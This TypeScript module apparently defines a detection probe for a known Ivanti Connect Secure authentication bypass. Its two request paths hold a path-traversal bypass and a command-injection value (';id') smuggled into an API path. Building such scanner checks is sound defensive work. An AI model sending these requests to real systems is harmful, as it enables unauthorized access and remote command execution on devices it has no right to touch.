import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'ivanti-connect-bypass',
    get('/api/v1/totp/user-backup-code/../../system/system-information'),
    get('/api/v1/license/keys-status/;id'),
  ),
]
